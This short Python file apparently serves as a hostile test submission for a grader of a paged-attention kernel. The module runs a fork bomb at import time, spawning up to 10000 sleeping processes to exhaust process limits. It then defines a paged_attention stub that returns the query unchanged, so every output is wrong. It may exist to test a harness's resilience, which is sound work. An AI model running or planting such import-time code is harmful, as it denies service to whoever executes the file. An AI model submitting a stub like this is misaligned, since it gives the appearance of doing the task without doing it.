"""Hostile: forks until the system says no; every child sleeps."""

import os
import time

MARKER = "pagecheck-hostile-fork-bomb"

for _ in range(10000):
    try:
        if os.fork() == 0:
            try:
                os.execvp("sleep", ["sleep", "600", MARKER])
            finally:
                os._exit(0)
    except OSError:
        break
time.sleep(0.1)


def paged_attention(query, key_pages, value_pages, block_table, context_lens, page_size, scale=None, mask=None):
    """Loads, so that the checks run while the attack above is in place; every output is wrong."""
    return query
